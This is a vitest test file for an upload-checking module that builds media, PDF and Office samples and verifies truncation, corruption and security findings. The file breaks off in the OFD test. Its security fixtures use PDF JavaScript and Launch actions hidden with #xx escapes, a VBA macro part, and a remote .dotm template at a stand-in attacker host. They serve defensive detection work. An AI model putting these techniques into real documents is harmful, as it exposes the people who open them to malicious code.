import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import { Document, Packer, Paragraph } from 'docx';
import { fileTypeFromBuffer } from 'file-type';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bufferSource, checkFile, type FileCheckResult, fileSource, type RandomAccessSource } from './file-checks.js';
import { box, FTYP, jpeg, MOOV, mp4, mvhd } from './file-samples.js';

// Every sample is built here byte by byte (or, for one .docx, by the same library the platform uses to
// write its documents), then damaged the way real uploads get damaged.

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';

const check = (buf: Buffer, mediaType: string, fileName: string): Promise<FileCheckResult> =>
  checkFile(bufferSource(buf), { mediaType, fileName });

const u16be = (n: number) => Buffer.from([n >> 8, n & 0xff]);
const u32be = (n: number) => {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(n);
  return b;
};
const u32le = (n: number) => {
  const b = Buffer.alloc(4);
  b.writeUInt32LE(n);
  return b;
};

// --- images

function pngChunk(type: string, data: Buffer): Buffer {
  const typed = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  return Buffer.concat([u32be(data.length), typed, u32be(crc32(typed))]);
}

function png(width: number, height: number): Buffer {
  const ihdr = Buffer.concat([u32be(width), u32be(height), Buffer.from([8, 0, 0, 0, 0])]); // 8-bit greyscale
  const rows = Buffer.alloc((width + 1) * height); // filter byte 0 and black pixels
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(rows)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

// --- PDF

/** A PDF with a classic cross-reference table; each object is its body between "n 0 obj" and "endobj". */
function pdf(objects: (string | Buffer)[]): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  let length = parts[0]?.length ?? 0;
  objects.forEach((body, i) => {
    const object = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`), Buffer.from(body), Buffer.from('\nendobj\n')]);
    offsets.push(length);
    parts.push(object);
    length += object.length;
  });
  const xref = [
    'xref',
    `0 ${objects.length + 1}`,
    '0000000000 65535 f ',
    ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n `),
    'trailer',
    `<< /Size ${objects.length + 1} /Root 1 0 R >>`,
    'startxref',
    String(length),
    '%%EOF',
    '',
  ].join('\n');
  return Buffer.concat([...parts, Buffer.from(xref)]);
}

const PAGES = [
  '<< /Type /Pages /Kids [3 0 R 4 0 R 5 0 R] /Count 3 >>',
  ...Array(3).fill('<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>'),
];

function objectStream(objects: string[]): Buffer {
  const bodies = objects.map((o) => `${o}\n`);
  let at = 0;
  const index = bodies.map((b, i) => {
    const entry = `${100 + i} ${at} `;
    at += b.length;
    return entry;
  });
  const first = index.join('').length;
  const data = deflateSync(Buffer.from(index.join('') + bodies.join('')));
  const dict = `<< /Type /ObjStm /N ${objects.length} /First ${first} /Filter /FlateDecode /Length ${data.length} >>\nstream\n`;
  return Buffer.concat([Buffer.from(dict), data, Buffer.from('\nendstream')]);
}

// --- audio

function wav(seconds: number): Buffer {
  const data = Buffer.alloc(16_000 * seconds); // 8 kHz, 16-bit mono
  const fmt = Buffer.alloc(16);
  fmt.writeUInt16LE(1, 0);
  fmt.writeUInt16LE(1, 2);
  fmt.writeUInt32LE(8000, 4);
  fmt.writeUInt32LE(16_000, 8);
  fmt.writeUInt16LE(2, 12);
  fmt.writeUInt16LE(16, 14);
  const chunks = Buffer.concat([Buffer.from('WAVEfmt '), u32le(16), fmt, Buffer.from('data'), u32le(data.length), data]);
  return Buffer.concat([Buffer.from('RIFF'), u32le(chunks.length), chunks]);
}

/** ID3v2 tag, then MPEG-1 Layer III frames at 128 kbit/s, 44.1 kHz (417 bytes each). */
function mp3(frames: number): Buffer {
  const frame = Buffer.concat([Buffer.from([0xff, 0xfb, 0x90, 0x00]), Buffer.alloc(413)]);
  return Buffer.concat([Buffer.from('ID3\x03\0\0\0\0\0\x0a', 'latin1'), Buffer.alloc(10), ...Array(frames).fill(frame)]);
}

// --- WebM

function ebml(id: number[], ...content: Buffer[]): Buffer {
  const body = Buffer.concat(content);
  // One-byte sizes where they fit, else the eight-byte form muxers write for a Segment.
  const size = body.length < 127 ? Buffer.from([0x80 | body.length]) : Buffer.concat([Buffer.from([0x01, 0, 0, 0]), u32be(body.length)]);
  return Buffer.concat([Buffer.from(id), size, body]);
}

function webm(): Buffer {
  const duration = Buffer.alloc(8);
  duration.writeDoubleBE(2500); // milliseconds at the default timecode scale
  return Buffer.concat([
    ebml([0x1a, 0x45, 0xdf, 0xa3], ebml([0x42, 0x86], Buffer.from([1])), ebml([0x42, 0x82], Buffer.from('webm'))),
    ebml(
      [0x18, 0x53, 0x80, 0x67],
      ebml([0x15, 0x49, 0xa9, 0x66], ebml([0x2a, 0xd7, 0xb1], Buffer.from([0x0f, 0x42, 0x40])), ebml([0x44, 0x89], duration)),
      ebml(
        [0x16, 0x54, 0xae, 0x6b],
        ebml(
          [0xae],
          ebml([0xd7], Buffer.from([1])),
          ebml([0x86], Buffer.from('V_VP8')),
          ebml([0xe0], ebml([0xb0], u16be(640)), ebml([0xba], u16be(480))),
        ),
      ),
      ebml([0x1f, 0x43, 0xb6, 0x75], ebml([0xe7], Buffer.from([0])), ebml([0xa3], Buffer.alloc(300, 1))),
    ),
  ]);
}

// --- ZIP-based documents

interface ZipPart {
  readonly name: string;
  readonly data: Buffer | string;
  /** Overwrite bytes in the middle of the deflated data, as a bad sector or a broken copy would. */
  readonly corrupt?: boolean;
  /** Stored uncompressed with one bit flipped after its CRC was taken (bit rot no inflate can notice). */
  readonly rotten?: boolean;
}

function zip(parts: readonly ZipPart[], options: { shiftOffsets?: number } = {}): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const part of parts) {
    const data = Buffer.from(part.data);
    const packed = Buffer.from(part.rotten ? data : deflateRawSync(data));
    if (part.corrupt) packed.fill(0xff, packed.length >> 2, packed.length >> 1);
    if (part.rotten) packed.writeUInt8((packed[packed.length >> 1] ?? 0) ^ 0x04, packed.length >> 1);
    const name = Buffer.from(part.name, 'utf8');
    const common = (b: Buffer, at: number) => {
      b.writeUInt16LE(0x0800, at);
      b.writeUInt16LE(part.rotten ? 0 : 8, at + 2);
      b.writeUInt32LE(crc32(data), at + 8);
      b.writeUInt32LE(packed.length, at + 12);
      b.writeUInt32LE(data.length, at + 16);
      b.writeUInt16LE(name.length, at + 20);
    };
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    common(local, 6);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    common(central, 8);
    central.writeUInt32LE(offset + (options.shiftOffsets ?? 0), 42);
    locals.push(local, name, packed);
    centrals.push(central, name);
    offset += 30 + name.length + packed.length;
  }
  const cd = Buffer.concat(centrals);
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(parts.length, 8);
  eocd.writeUInt16LE(parts.length, 10);
  eocd.writeUInt32LE(cd.length, 12);
  eocd.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, eocd]);
}

const RELS_NS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

function docxParts(): ZipPart[] {
  return [
    {
      name: '[Content_Types].xml',
      data: `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
    },
    {
      name: '_rels/.rels',
      data: `<?xml version="1.0"?><Relationships xmlns="${RELS_NS}"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/></Relationships>`,
    },
    {
      name: 'word/document.xml',
      data: `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${'<w:p><w:r><w:t>行政处罚决定书</w:t></w:r></w:p>'.repeat(200)}</w:body></w:document>`,
    },
    {
      name: 'word/_rels/document.xml.rels',
      data: `<?xml version="1.0"?><Relationships xmlns="${RELS_NS}"><Relationship Id="rId9" Type="${REL}/hyperlink" Target="https://www.gov.cn/" TargetMode="External"/></Relationships>`,
    },
    { name: 'docProps/app.xml', data: '<?xml version="1.0"?><Properties><Pages>2</Pages></Properties>' },
  ];
}

// --- legacy Office

/** A version 3 compound file: header, one FAT sector, one directory sector holding the given entries. */
function ole(entries: readonly [string, number][]): Buffer {
  const header = Buffer.alloc(512, 0);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(header);
  header.writeUInt16LE(0x3e, 0x18);
  header.writeUInt16LE(3, 0x1a);
  header.writeUInt16LE(0xfffe, 0x1c);
  header.writeUInt16LE(9, 0x1e);
  header.writeUInt16LE(6, 0x20);
  header.writeUInt32LE(1, 0x2c); // one FAT sector
  header.writeUInt32LE(1, 0x30); // the directory starts at sector 1
  header.writeUInt32LE(4096, 0x38);
  header.writeUInt32LE(0xfffffffe, 0x3c);
  header.writeUInt32LE(0xfffffffe, 0x44);
  for (let i = 0; i < 109; i++) header.writeUInt32LE(i === 0 ? 0 : 0xffffffff, 0x4c + i * 4);
  const fat = Buffer.alloc(512, 0xff);
  fat.writeUInt32LE(0xfffffffd, 0); // sector 0 is the FAT itself
  fat.writeUInt32LE(0xfffffffe, 4); // the directory is one sector long
  const dir = Buffer.alloc(512, 0);
  [['Root Entry', 5] as [string, number], ...entries].forEach(([name, type], i) => {
    const at = i * 128;
    dir.write(name, at, 'utf16le');
    dir.writeUInt16LE((name.length + 1) * 2, at + 0x40);
    dir[at + 0x42] = type;
  });
  return Buffer.concat([header, fat, dir]);
}

/** Counts what a check reads, to show a large file costs only its headers. */
function counting(source: RandomAccessSource): RandomAccessSource & { bytesRead: number; reads: number } {
  const counter = {
    size: source.size,
    bytesRead: 0,
    reads: 0,
    async read(start: number, length: number) {
      const bytes = await source.read(start, length);
      counter.bytesRead += bytes.length;
      counter.reads++;
      return bytes;
    },
  };
  return counter;
}

let tmp: string;
beforeAll(() => {
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'sanxiang-file-checks-'));
});
afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));

describe('samples are what an independent sniffer says they are', () => {
  it('file-type agrees with the built samples', async () => {
    expect((await fileTypeFromBuffer(jpeg()))?.mime).toBe('image/jpeg');
    expect((await fileTypeFromBuffer(png(4, 3)))?.mime).toBe('image/png');
    expect((await fileTypeFromBuffer(mp4()))?.mime).toBe('video/mp4');
    expect((await fileTypeFromBuffer(wav(1)))?.mime).toBe('audio/wav');
    expect((await fileTypeFromBuffer(pdf(['<< /Type /Catalog >>'])))?.mime).toBe('application/pdf');
    expect((await fileTypeFromBuffer(webm()))?.mime).toBe('video/webm');
    expect((await fileTypeFromBuffer(mp3(3)))?.mime).toBe('audio/mpeg');
  });
});

describe('images', () => {
  it('a whole JPEG is usable, secure, with its frame size', async () => {
    const result = await check(jpeg(), 'image/jpeg', '现场照片.jpg');
    expect(result).toEqual({ usable: true, secure: true, format: 'jpeg', details: { width: 16, height: 8 }, problems: [] });
  });

  it('a JPEG cut before its EOI is unusable', async () => {
    const whole = jpeg();
    const result = await check(whole.subarray(0, whole.length - 2), 'image/jpeg', 'a.jpg');
    expect(result.usable).toBe(false);
    expect(result.secure).toBe(true);
    expect(result.problems).toEqual(['JPEG 文件缺少结束标记 EOI(FFD9),可能已截断']);
  });

  it('a JPEG with trailing camera data after its EOI is still usable', async () => {
    const result = await check(Buffer.concat([jpeg(), Buffer.from('SEFT trailer from the camera')]), 'image/jpeg', 'a.jpg');
    expect(result.usable).toBe(true);
  });

  it('a PNG reports its IHDR size; a damaged IHDR or a missing IEND makes it unusable', async () => {
    expect(await check(png(7, 5), 'image/png', 'a.png')).toMatchObject({
      usable: true,
      secure: true,
      format: 'png',
      details: { width: 7, height: 5 },
    });
    const damaged = png(7, 5);
    damaged.writeUInt8((damaged[19] ?? 0) ^ 1, 19); // a bit of the width flips; the CRC no longer matches
    expect((await check(damaged, 'image/png', 'a.png')).problems).toContain('PNG 文件的 IHDR 头块校验(CRC)错误,文件已损坏');
    const cut = png(7, 5).subarray(0, -12);
    expect(await check(cut, 'image/png', 'a.png')).toMatchObject({ usable: false, problems: ['PNG 文件末尾缺少 IEND 块,可能已截断'] });
  });

  it('a PNG declared as JPEG (a renamed file) is reported, yet still opens as the PNG it is', async () => {
    const result = await check(png(2, 2), 'image/jpeg', '照片.jpg');
    expect(result.usable).toBe(true);
    expect(result.format).toBe('png');
    expect(result.problems).toEqual(['声明的文件类型 image/jpeg 与实际内容(png)不符', '文件扩展名 .jpg 与实际内容(png)不符']);
  });
});

describe('PDF', () => {
  const catalog = '<< /Type /Catalog /Pages 2 0 R >>';

  it('a whole PDF is usable, secure, and its pages are counted (/Type /Pages is not a page)', async () => {
    const result = await check(pdf([catalog, ...PAGES]), 'application/pdf', '决定书.pdf');
    expect(result).toEqual({ usable: true, secure: true, format: 'pdf', details: { pages: 3 }, problems: [] });
  });

  it('a PDF cut before %%EOF is unusable', async () => {
    const whole = pdf([catalog, ...PAGES]);
    const result = await check(whole.subarray(0, whole.indexOf('startxref')), 'application/pdf', 'a.pdf');
    expect(result.usable).toBe(false);
    expect(result.problems).toContain('PDF 文件缺少结束标记 %%EOF,可能已截断');
    expect(result.problems).toContain('PDF 文件缺少 startxref(交叉引用表位置),可能已截断');
  });

  it('an opening JavaScript action makes it insecure, and the problem names it', async () => {
    const result = await check(
      pdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>', ...PAGES]),
      'application/pdf',
      'a.pdf',
    );
    expect(result.usable).toBe(true);
    expect(result.secure).toBe(false);
    expect(result.problems).toEqual(['PDF 文件含有 JavaScript 脚本(/JavaScript)', 'PDF 文件含有 JavaScript 动作(/JS)']);
  });

  it('embedded files and launch actions are found, also when spelled with #xx escapes', async () => {
    const result = await check(
      pdf([`<< /Type /Catalog /Pages 2 0 R /Names << /Embedded#46iles 9 0 R >> /AA << /O << /S /L#61unch >> >> >>`, ...PAGES]),
      'application/pdf',
      'a.pdf',
    );
    expect(result.secure).toBe(false);
    expect(result.problems).toEqual(['PDF 文件含有启动外部程序的动作(/Launch)', 'PDF 文件含有嵌入文件(/EmbeddedFile)']);
  });

  it('pages and JavaScript inside a compressed object stream are found', async () => {
    const hidden = objectStream([
      '<< /S /JavaScript /JS (this.exportDataObject()) >>',
      '<< /Type /Page /Parent 2 0 R >>',
      '<< /Type /Page /Parent 2 0 R >>',
    ]);
    const result = await check(pdf([catalog, '<< /Type /Pages /Kids [101 0 R 102 0 R] /Count 2 >>', hidden]), 'application/pdf', 'a.pdf');
    expect(result.details.pages).toBe(2);
    expect(result.secure).toBe(false);
    expect(result.problems).toContain('PDF 文件含有 JavaScript 脚本(/JavaScript)');
  });

  it('pages at and across the 1 MiB scan-window boundaries are counted once', async () => {
    for (const at of [(1 << 20) - 200, (1 << 20) - 5, (1 << 20) + 3, (2 << 20) - 100]) {
      const kids = '<< /Type /Pages /Kids [4 0 R 5 0 R 6 0 R] /Count 3 >>';
      const build = (padding: number) => pdf([catalog, kids, `(${'x'.repeat(padding)})`, ...PAGES.slice(1)]);
      const file = build(at - build(0).indexOf('/Type /Page '));
      expect(file.indexOf('/Type /Page ')).toBe(at);
      expect((await check(file, 'application/pdf', 'a.pdf')).details.pages).toBe(3);
    }
  });

  it('a damaged object stream makes the PDF unusable', async () => {
    const stream = objectStream(['<< /Type /Page /Parent 2 0 R >>']);
    const start = stream.indexOf('stream\n') + 7;
    stream.fill(0xee, start, start + 6);
    const result = await check(pdf([catalog, '<< /Type /Pages /Kids [101 0 R] /Count 1 >>', stream]), 'application/pdf', 'a.pdf');
    expect(result.usable).toBe(false);
    expect(result.problems.some((p) => p.includes('对象流无法解压'))).toBe(true);
  });
});

describe('MP4 and other videos', () => {
  it('a whole MP4 is usable with its duration (mvhd version 0) and frame size', async () => {
    const result = await check(mp4(), 'video/mp4', '执法记录仪.mp4');
    expect(result).toEqual({
      usable: true,
      secure: true,
      format: 'mp4',
      details: { durationSeconds: 12.5, width: 1280, height: 720 },
      problems: [],
    });
  });

  it('reads the duration from a version 1 mvhd', async () => {
    const file = Buffer.concat([FTYP, box('moov', mvhd(1, 90_000, 90_000 * 3600)), box('mdat', Buffer.alloc(10))]);
    expect((await check(file, 'video/mp4', 'a.mp4')).details.durationSeconds).toBe(3600);
  });

  it('an mdat that claims more bytes than exist is a truncated, unusable file', async () => {
    const whole = mp4(4096);
    const result = await check(whole.subarray(0, whole.length - 1000), 'video/mp4', 'a.mp4');
    expect(result.usable).toBe(false);
    expect(result.problems).toEqual(['MP4 文件的 mdat 框声明 4104 字节,超出文件末尾 1000 字节,文件可能已截断']);
  });

  it('a recording whose moov was never written is unusable', async () => {
    const result = await check(Buffer.concat([FTYP, box('mdat', Buffer.alloc(100))]), 'video/mp4', 'a.mp4');
    expect(result).toMatchObject({ usable: false, problems: ['MP4 文件缺少 moov 框(影音索引),无法播放'] });
  });

  it('a 5 GiB MP4 (64-bit mdat) is checked by reading a few KiB', async () => {
    const file = path.join(tmp, 'large.mp4');
    const size = 5 * 1024 ** 3; // past 4 GiB, so the mdat size only fits the 64-bit field
    const head = Buffer.concat([FTYP, MOOV]);
    const mdat = Buffer.alloc(16);
    mdat.writeUInt32BE(1, 0);
    mdat.write('mdat', 4, 'latin1');
    mdat.writeBigUInt64BE(BigInt(size - head.length), 8);
    fs.writeFileSync(file, Buffer.concat([head, mdat]));
    fs.truncateSync(file, size); // sparse: no disk space is used
    const source = await fileSource(file);
    try {
      const counted = counting(source);
      const result = await checkFile(counted, { mediaType: 'video/mp4', fileName: 'large.mp4' });
      expect(result).toEqual({
        usable: true,
        secure: true,
        format: 'mp4',
        details: { durationSeconds: 12.5, width: 1280, height: 720 },
        problems: [],
      });
      expect(counted.bytesRead).toBeLessThan(4096);
      expect(counted.reads).toBeLessThan(20);
    } finally {
      await source.close();
    }
    // One byte short and the same 64-bit mdat runs past the end.
    fs.truncateSync(file, size - 1);
    const cut = await fileSource(file);
    try {
      expect((await checkFile(cut, { mediaType: 'video/mp4', fileName: 'large.mp4' })).usable).toBe(false);
    } finally {
      await cut.close();
    }
  });

  it('a WebM reports its duration and size; cut short, its Segment runs past the end', async () => {
    expect(await check(webm(), 'video/webm', 'a.webm')).toEqual({
      usable: true,
      secure: true,
      format: 'webm',
      details: { durationSeconds: 2.5, width: 640, height: 480 },
      problems: [],
    });
    const cut = await check(webm().subarray(0, -100), 'video/webm', 'a.webm');
    expect(cut.usable).toBe(false);
    expect(cut.problems[0]).toMatch(/^WebM 文件的 Segment 声明长度超出文件末尾 100 字节/);
  });
});

describe('audio', () => {
  it('a whole WAV is usable with its duration; cut short it is not', async () => {
    expect(await check(wav(2), 'audio/wav', '询问录音.wav')).toEqual({
      usable: true,
      secure: true,
      format: 'wav',
      details: { durationSeconds: 2 },
      problems: [],
    });
    const cut = await check(wav(2).subarray(0, 20_000), 'audio/wav', 'a.wav');
    expect(cut.usable).toBe(false);
    expect(cut.problems).toEqual(['WAV 文件头声明长度 32044 字节,但文件只有 20000 字节,已截断']);
  });

  it('an MP3 behind an ID3 tag is found by two consecutive frames; garbage after the first frame is not MP3', async () => {
    const result = await check(mp3(3), 'audio/mpeg', 'a.mp3');
    expect(result).toMatchObject({ usable: true, secure: true, format: 'mp3', problems: [] });
    expect(result.details.durationSeconds).toBeCloseTo((3 * 417 * 8) / 128_000, 6);
    const broken = mp3(3);
    broken.fill(0x20, 20 + 417, 20 + 420);
    expect((await check(broken, 'audio/mpeg', 'a.mp3')).problems).toEqual(['MP3 文件的音频帧不连续,文件已损坏']);
  });
});

describe('smaller formats', () => {
  const riff = (form: string, ...chunks: Buffer[]) => {
    const body = Buffer.concat([Buffer.from(form), ...chunks]);
    return Buffer.concat([Buffer.from('RIFF'), u32le(body.length), body]);
  };

  it('GIF: the logical screen size; without its trailer byte it is truncated', async () => {
    const gif = Buffer.concat([
      Buffer.from('GIF89a'),
      Buffer.from([3, 0, 2, 0, 0, 0, 0]),
      Buffer.from([0x2c, 0, 0, 0, 0, 3, 0, 2, 0, 0, 2, 2, 0x44, 0x01, 0, 0x3b]),
    ]);
    expect(await check(gif, 'image/gif', 'a.gif')).toEqual({
      usable: true,
      secure: true,
      format: 'gif',
      details: { width: 3, height: 2 },
      problems: [],
    });
    expect((await check(gif.subarray(0, -1), 'image/gif', 'a.gif')).usable).toBe(false);
  });

  it('BMP: the DIB size; pixel rows missing at the end make it truncated', async () => {
    const header = Buffer.alloc(54);
    header.write('BM', 0, 'latin1');
    header.writeUInt32LE(54 + 24, 2);
    header.writeUInt32LE(54, 10);
    header.writeUInt32LE(40, 14);
    header.writeInt32LE(3, 18);
    header.writeInt32LE(-2, 22); // top-down
    header.writeUInt16LE(1, 26);
    header.writeUInt16LE(24, 28);
    const bmp = Buffer.concat([header, Buffer.alloc(24)]); // two rows of 3 × 3 bytes, padded to 12
    expect(await check(bmp, 'image/bmp', 'a.bmp')).toEqual({
      usable: true,
      secure: true,
      format: 'bmp',
      details: { width: 3, height: 2 },
      problems: [],
    });
    expect((await check(bmp.subarray(0, -4), 'image/bmp', 'a.bmp')).usable).toBe(false);
  });

  it('WebP (lossless): the size from the VP8L header; a RIFF size past the end is truncated', async () => {
    const bits = Buffer.alloc(4);
    bits.writeUInt32LE((100 - 1) | ((50 - 1) << 14));
    const payload = Buffer.concat([Buffer.from([0x2f]), bits, Buffer.alloc(11)]);
    const webp = riff('WEBP', Buffer.from('VP8L'), u32le(payload.length), payload);
    expect(await check(webp, 'image/webp', 'a.webp')).toEqual({
      usable: true,
      secure: true,
      format: 'webp',
      details: { width: 100, height: 50 },
      problems: [],
    });
    expect((await check(webp.subarray(0, -2), 'image/webp', 'a.webp')).usable).toBe(false);
  });

  it('TIFF: the IFD size tags; a strip past the end is truncated', async () => {
    const tiff = (stripBytes: number) => {
      const entry = (tag: number, type: number, value: number) => {
        const e = Buffer.alloc(12);
        e.writeUInt16LE(tag, 0);
        e.writeUInt16LE(type, 2);
        e.writeUInt32LE(1, 4);
        if (type === 3) e.writeUInt16LE(value, 8);
        else e.writeUInt32LE(value, 8);
        return e;
      };
      const ifd = Buffer.concat([
        Buffer.from([4, 0]),
        entry(256, 3, 4),
        entry(257, 3, 2),
        entry(273, 4, 62),
        entry(279, 4, stripBytes),
        u32le(0),
      ]);
      return Buffer.concat([Buffer.from('II*\0', 'latin1'), u32le(8), ifd, Buffer.alloc(8)]);
    };
    expect(await check(tiff(8), 'image/tiff', 'a.tif')).toEqual({
      usable: true,
      secure: true,
      format: 'tiff',
      details: { width: 4, height: 2 },
      problems: [],
    });
    expect((await check(tiff(9), 'image/tiff', 'a.tif')).problems).toEqual(['TIFF 文件的图像数据应到 71 字节,但文件只有 70 字节,已截断']);
  });

  it('AMR: 20 ms a frame; a cut last frame is truncated', async () => {
    const amr = Buffer.concat([Buffer.from('#!AMR\n'), ...Array(50).fill(Buffer.concat([Buffer.from([0x3c]), Buffer.alloc(31, 7)]))]);
    expect(await check(amr, 'audio/amr', 'a.amr')).toEqual({
      usable: true,
      secure: true,
      format: 'amr',
      details: { durationSeconds: 1 },
      problems: [],
    });
    expect(await check(amr.subarray(0, -10), 'audio/amr', 'a.amr')).toMatchObject({
      usable: false,
      problems: ['AMR 文件最后一帧不完整,文件已截断'],
    });
  });

  it('FLAC: the duration from STREAMINFO; no audio frame after the metadata is truncated', async () => {
    const info = Buffer.alloc(34);
    info[10] = 44_100 >> 12;
    info[11] = (44_100 >> 4) & 0xff;
    info[12] = ((44_100 & 0x0f) << 4) | 0x02; // then channels and bits per sample
    info.writeUInt32BE(88_200, 14);
    const flac = Buffer.concat([
      Buffer.from('fLaC'),
      Buffer.from([0x80, 0, 0, 34]),
      info,
      Buffer.from([0xff, 0xf8, 0x69, 0x08]),
      Buffer.alloc(40),
    ]);
    expect(await check(flac, 'audio/flac', 'a.flac')).toEqual({
      usable: true,
      secure: true,
      format: 'flac',
      details: { durationSeconds: 2 },
      problems: [],
    });
    expect((await check(flac.subarray(0, 42), 'audio/flac', 'a.flac')).usable).toBe(false);
  });

  it('Ogg Opus: the duration from the last granule position less the pre-skip; the end-of-stream flag and a cut page', async () => {
    const page = (type: number, granule: number, sequence: number, packet: Buffer) => {
      const header = Buffer.alloc(27);
      header.write('OggS', 0, 'latin1');
      header[5] = type;
      header.writeBigInt64LE(BigInt(granule), 6);
      header.writeUInt32LE(0x5a11, 14);
      header.writeUInt32LE(sequence, 18);
      header[26] = 1;
      return Buffer.concat([header, Buffer.from([packet.length]), packet]);
    };
    const head = Buffer.concat([
      Buffer.from('OpusHead'),
      Buffer.from([1, 1]),
      Buffer.from([312 & 0xff, 312 >> 8]),
      u32le(48_000),
      Buffer.from([0, 0, 0]),
    ]);
    const opus = (eos: boolean) => Buffer.concat([page(2, 0, 0, head), page(eos ? 4 : 0, 48_000 * 3 + 312, 1, Buffer.alloc(10, 9))]);
    expect(await check(opus(true), 'audio/ogg; codecs=opus', 'a.opus')).toEqual({
      usable: true,
      secure: true,
      format: 'opus',
      details: { durationSeconds: 3 },
      problems: [],
    });
    expect((await check(opus(false), 'audio/ogg', 'a.opus')).problems).toEqual(['Ogg 文件缺少流结束页,可能未完整写入']);
    expect((await check(opus(true).subarray(0, -3), 'audio/ogg', 'a.opus')).problems).toEqual(['Ogg 文件最后一页不完整,文件已截断']);
  });

  it('MPEG-TS: sync bytes every 188 bytes; a damaged packet is found', async () => {
    const ts = Buffer.concat(Array.from({ length: 10 }, () => Buffer.concat([Buffer.from([0x47]), Buffer.alloc(187, 0xff)])));
    expect(await check(ts, 'video/mp2t', 'a.ts')).toMatchObject({ usable: true, secure: true, format: 'ts', problems: [] });
    const damaged = Buffer.from(ts);
    damaged[188 * 3] = 0;
    expect((await check(damaged, 'video/mp2t', 'a.ts')).usable).toBe(false);
  });
});

describe('Office documents and OFD', () => {
  it('a .docx written by the docx library the platform uses is usable and secure', async () => {
    const doc = new Document({ sections: [{ children: [new Paragraph('行政处罚决定书'), new Paragraph('当事人:张三')] }] });
    const result = await check(await Packer.toBuffer(doc), DOCX, '决定书.docx');
    expect(result.problems).toEqual([]);
    expect(result).toMatchObject({ usable: true, secure: true, format: 'docx' });
    expect(result.details.entries).toBeGreaterThan(3);
  });

  it('a hand-built .docx: entries and pages counted, an external hyperlink is allowed', async () => {
    expect(await check(zip(docxParts()), DOCX, 'a.docx')).toEqual({
      usable: true,
      secure: true,
      format: 'docx',
      details: { entries: 5, pages: 2 },
      problems: [],
    });
  });

  it('a .docx with vbaProject.bin is insecure', async () => {
    const result = await check(zip([...docxParts(), { name: 'word/vbaProject.bin', data: Buffer.alloc(64, 1) }]), DOCX, 'a.docx');
    expect(result.usable).toBe(true);
    expect(result.secure).toBe(false);
    expect(result.problems).toEqual(['文件含有 VBA 宏(word/vbaProject.bin)']);
  });

  it('a remote template (settings.xml.rels) is insecure', async () => {
    const rels = `<Relationships xmlns="${RELS_NS}"><Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`;
    const result = await check(zip([...docxParts(), { name: 'word/_rels/settings.xml.rels', data: rels }]), DOCX, 'a.docx');
    expect(result.secure).toBe(false);
    expect(result.problems).toEqual(['文件含有打开时访问外部的关联:attachedTemplate → http://evil.example/t.dotm']);
  });

  it('a corrupted deflate stream in word/document.xml makes it unusable', async () => {
    const parts = docxParts().map((p) => (p.name === 'word/document.xml' ? { ...p, corrupt: true } : p));
    const result = await check(zip(parts), DOCX, 'a.docx');
    expect(result.usable).toBe(false);
    expect(result.problems).toHaveLength(1);
    expect(result.problems[0]).toMatch(/^word\/document\.xml (无法解压|解压后校验\(CRC\)不符),文件已损坏$/);
  });

  it('a stored part whose bytes no longer match its CRC is unusable', async () => {
    const parts = docxParts().map((p) => (p.name === 'word/document.xml' ? { ...p, rotten: true } : p));
    expect(await check(zip(parts), DOCX, 'a.docx')).toMatchObject({
      usable: false,
      problems: ['word/document.xml 解压后校验(CRC)不符,文件已损坏'],
    });
  });

  it('a central directory pointing away from the local headers, or a missing main part, is unusable', async () => {
    const shifted = await check(zip(docxParts(), { shiftOffsets: 3 }), DOCX, 'a.docx');
    expect(shifted.usable).toBe(false);
    expect(shifted.problems[0]).toBe('ZIP 条目 [Content_Types].xml 的本地文件头不在中央目录所指位置,文件已损坏');
    const missing = await check(zip(docxParts().filter((p) => p.name !== 'word/document.xml')), DOCX, 'a.docx');
    expect(missing).toMatchObject({ usable: false, format: 'docx', problems: ['DOCX 文件缺少 word/document.xml'] });
  });

  it('a cut-off .docx (no end of central directory) is unusable', async () => {
    const result = await check(zip(docxParts()).subarray(0, 300), DOCX, 'a.docx');
    expect(result).toMatchObject({ usable: false, format: 'docx', problems: ['ZIP 文件找不到中央目录结尾记录,文件可能已截断'] });
  });

  it('an OFD counts the pages of its document; a plain ZIP is refused', async () => {
    const ofd = zip([
      {
